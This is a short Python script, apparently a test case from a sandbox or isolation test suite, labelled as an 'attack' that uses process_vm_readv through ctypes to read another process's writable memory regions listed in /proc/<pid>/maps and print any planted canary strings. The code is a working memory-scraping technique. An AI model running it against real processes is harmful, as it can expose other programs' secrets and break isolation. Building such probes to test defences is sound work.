# attack: reads the memory of another process with process_vm_readv | class: reading | canary: text
import re

SECRET = re.compile(rb"canary:[a-z]+:[0-9a-f]{16}")


def show(data):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for found in set(SECRET.findall(data)):
        print(found.decode())

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(2**20)
here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), len(buffer))


def read(start, size):
    there = (ctypes.c_void_p * 2)(start, size)
    count = libc.process_vm_readv(target.pid, here, 1, there, 1, 0)
    if count < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    show(buffer.raw[:count])


try:
    with open(f"/proc/{target.pid}/maps") as maps:
        spans = [line.split()[0] for line in maps if "rw-p" in line]
except OSError as error:
    print("met:", error)
    spans = ["10000-11000"]
for span in spans:
    start, end = (int(each, 16) for each in span.split("-"))
    for offset in range(start, min(end, start + 2**23), 2**20):
        read(offset, min(2**20, end - offset))
